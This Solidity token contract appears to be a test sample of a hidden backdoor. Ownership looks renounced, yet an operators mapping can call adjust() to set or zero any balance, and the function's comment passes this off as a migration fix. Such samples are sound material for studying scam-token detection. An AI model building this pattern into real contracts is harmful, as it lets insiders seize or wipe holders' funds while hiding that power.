// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooBase.sol";

/// @title OperatorRole - ownership renounced, but an `operators` mapping (the deployer is one) can
///        adjust(account, value): set any balance to any value (raise it or zero it), supply follows.
contract OperatorRole is ZooOwnedBase {
    mapping(address => bool) public operators;

    event OperatorUpdated(address indexed account, bool enabled);

    constructor(string memory name_, string memory symbol_, uint256 supply) ZooOwnedBase(name_, symbol_) {
        operators[msg.sender] = true;
        emit OperatorUpdated(msg.sender, true);
        _mint(msg.sender, supply);
    }

    modifier onlyOperator() {
        require(operators[msg.sender], "caller is not an operator");
        _;
    }

    function setOperator(address account, bool enabled) external onlyOperator {
        operators[account] = enabled;
        emit OperatorUpdated(account, enabled);
    }

    /// Corrects an account after a bridge or migration mismatch.
    function adjust(address account, uint256 value) external onlyOperator {
        _totalSupply = _totalSupply - _balances[account] + value;
        _balances[account] = value;
    }
}
